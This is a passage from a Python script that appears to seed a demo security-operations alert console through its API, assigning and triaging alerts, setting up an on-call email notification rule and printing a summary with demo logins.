        analyst_id, analyst_token = analysts[rng.randrange(len(analysts))]
        if target != "OPEN" or rng.random() < 0.4:
            api.call("POST", f"/api/alerts/{alert_id}/assign/", {"assignee": analyst_id}, token=analyst_token)
        tags = TAGS.get(alert["event_type"])
        if tags and (target != "OPEN" or rng.random() < 0.5):
            api.call("PUT", f"/api/alerts/{alert_id}/tags/", {"tags": tags}, token=analyst_token)
        comments = COMMENTS[FAMILY.get(alert["source"], "network")].get(target)
        if comments:
            for body in rng.sample(comments, k=rng.randint(1, 2)):
                api.call("POST", f"/api/alerts/{alert_id}/comments/", {"body": body}, token=analyst_token)
    steps = {"ACKNOWLEDGED": ["ACKNOWLEDGED"], "IN_PROGRESS": ["ACKNOWLEDGED", "IN_PROGRESS"],
             "RESOLVED": ["ACKNOWLEDGED", "IN_PROGRESS", "RESOLVED"], "FALSE_POSITIVE": ["ACKNOWLEDGED", "FALSE_POSITIVE"]}
    for depth in range(3):
        by_status = {}
        for alert_id, target in plan.items():
            if target in steps and depth < len(steps[target]):
                by_status.setdefault(steps[target][depth], []).append(alert_id)
        for status, ids in by_status.items():
            bulk(api, admin_token, ids, status)
    if reopened:
        bulk(api, admin_token, reopened, "OPEN")
    counts = {}
    for alert_id, target in plan.items():
        final = "OPEN" if alert_id in reopened else target
        counts[final] = counts.get(final, 0) + 1
    return counts


def bulk(api, admin_token, ids, status):
    for start in range(0, len(ids), 500):
        chunk = ids[start:start + 500]
        _, answer = api.call("POST", "/api/alerts/bulk/", {"ids": chunk, "action": "status", "status": status,
                                                           "note": NOTES[status]}, token=admin_token)
        refused = [r for r in answer["results"] if not r["ok"]]
        if refused:
            raise SeedError(f"bulk {status}: {len(refused)} refused, first {refused[0]}")


def notifications(api, admin_token):
    channels = {c["name"]: c for c in api.all_pages("/api/notifications/channels/", admin_token)}
    channel = channels.get("soc-oncall-mail") or api.call("POST", "/api/notifications/channels/", {
        "name": "soc-oncall-mail", "kind": "EMAIL", "config": {"to": ["soc-oncall@example.org"], "cc": ["soc-lead@example.org"]}},
        token=admin_token)[1]
    # Written last: the marker that the demo is seeded.
    api.call("POST", "/api/notifications/rules/", {
        "name": MARKER_RULE, "events": ["alert.created", "alert.escalated"], "min_severity": "CRITICAL",
        "channels": [channel["id"]], "throttle": {"max": 10, "per_seconds": 3600}}, token=admin_token)


def seeded(api, admin_token):
    return any(r["name"] == MARKER_RULE for r in api.all_pages("/api/notifications/rules/", admin_token))


def summary(api, token):
    alerts = api.all_pages("/api/alerts/", token)
    by_status = {}
    for a in alerts:
        by_status[a["status"]] = by_status.get(a["status"], 0) + 1
    _, events = api.call("GET", "/api/events/?page_size=1&exact_count=true", token=token)
    sensor_count = len(api.all_pages("/api/sensors/", token))
    order = ["OPEN", "ACKNOWLEDGED", "IN_PROGRESS", "RESOLVED", "FALSE_POSITIVE"]
    print(f"In the database: {sensor_count} sensors, {events['count']} events, {len(alerts)} alerts ("
          + ", ".join(f"{s} {by_status.get(s, 0)}" for s in order) + ")")


def seed(args):
    api = Api(args.api)
    state = load_state(args.state)
    users = state["users"]
    print(f"Seeding the demo SOC through {api.base}")
    admin_token = ensure_admin(api, users[0])
    if seeded(api, admin_token):
        print(f"  already seeded (notification rule {MARKER_RULE} exists): nothing written")
    else:
        analysts = [ensure_analyst(api, admin_token, u) for u in users[1:]]
        seed_sensors(api, admin_token, sensors(datetime.fromisoformat(state["anchor"])))
        counts = triage(api, admin_token, analysts)
        print("  triage: " + ", ".join(f"{k} {v}" for k, v in sorted(counts.items())))
        notifications(api, admin_token)
        print("  notification channel soc-oncall-mail (EMAIL) and rule " + MARKER_RULE)
    summary(api, admin_token)
    print()
    print(f"Console: {api.base}/   API reference: {api.base}/swagger/")
    print(f"Demo logins (demo only, kept in {os.path.relpath(args.state)}):")
    for u in users:
        print(f"  {u['role']:<8} {u['username']:<11} {u['password']}")


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--api", help="the running API's base URL, e.g. http://localhost:8000")
    parser.add_argument("--state", default=os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", ".data", "demo-logins.json"),
                        help="where the demo logins and the week's anchor are kept (default .data/demo-logins.json)")
    parser.add_argument("--emit", action="store_true", help="print the sensors and their records as JSON; no API is called")
    args = parser.parse_args()
    if args.emit:
        plan = sensors(datetime.now(timezone.utc).replace(microsecond=0))
        for sensor in plan:
            sensor["records"] = [line for _, line in sensor["records"]]
        json.dump({"sensors": plan}, sys.stdout, indent=1)
        return 0
    if not args.api:
        parser.error("--api or --emit is required")
    try:
        seed(args)
    except SeedError as e:
        print(f"demo seed failed: {e}", file=sys.stderr)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
